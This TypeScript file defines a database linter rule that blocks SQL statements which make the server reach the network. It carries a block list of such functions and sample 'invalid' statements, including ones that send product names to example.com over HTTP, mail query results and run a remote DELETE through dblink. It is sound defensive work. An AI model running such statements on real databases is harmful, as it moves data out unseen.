import { callsOfBuiltins, callsOfExtensions, callsOfProcedures, eachPlace, setOf } from './calls.ts';
import { type Rule, tsql } from './rule.ts';

/** Of the extensions dblink, http and pg_net. */
const ofExtensions = setOf(
  `dblink dblink_connect dblink_connect_u dblink_exec dblink_open dblink_fetch dblink_send_query dblink_get_result
  http_get http_post http_put http_patch http_delete http_head`,
);
const builtins = setOf('ai_generate_embeddings ai_generate_chunks');
const procedures = setOf('sp_invoke_external_rest_endpoint sp_send_dbmail xp_sendmail');

export default {
  id: 'network-access',
  severity: 'error',
  effect: { development: 'requireApproval', staging: 'requireApproval', production: 'deny' },
  suppressible: false,
  docs: {
    title: 'Talks to the network',
    problem: 'The statement makes the database connect to another machine, call a web service or send mail.',
    why: 'Data can leave that way without being a result that anyone sees, and the other machine sees a request from inside the network.',
    remedy: 'Fetch the rows, and let a program that is allowed to do the sending.',
    invalid: [
      "SELECT dblink_exec('host=example.com', 'DELETE FROM t')",
      "SELECT x FROM dblink('host=example.com', 'SELECT 1') AS t(x int)",
      "SELECT http_get('https://example.com/?q=' || name) FROM products",
      "SELECT net.http_post('https://example.com')",
      tsql("EXEC sp_invoke_external_rest_endpoint @url = N'https://example.com'"),
      tsql("EXEC msdb.dbo.sp_send_dbmail @query = N'SELECT name FROM products'"),
    ],
    valid: [
      "SELECT sku FROM products WHERE name = 'dblink'",
      'SELECT sku AS http_get FROM products LIMIT 10',
      tsql("SELECT sku FROM products WHERE name = 'sp_send_dbmail'"),
    ],
    source:
      'Out-of-band exfiltration in the OWASP Web Security Testing Guide (WSTG-INPV-05); the manuals of dblink, http and pg_net.',
  },
  check(statement, _context, report) {
    const calls = [
      ...callsOfExtensions(statement, ofExtensions),
      ...callsOfBuiltins(statement, builtins),
      ...callsOfProcedures(statement, (name) => procedures.has(name)),
    ];
    for (const { name, span } of eachPlace(calls))
      report({
        span,
        message: `This calls ${name}, which talks to another machine, and what it tells that one isn't in any result.`,
      });
  },
} satisfies Rule;
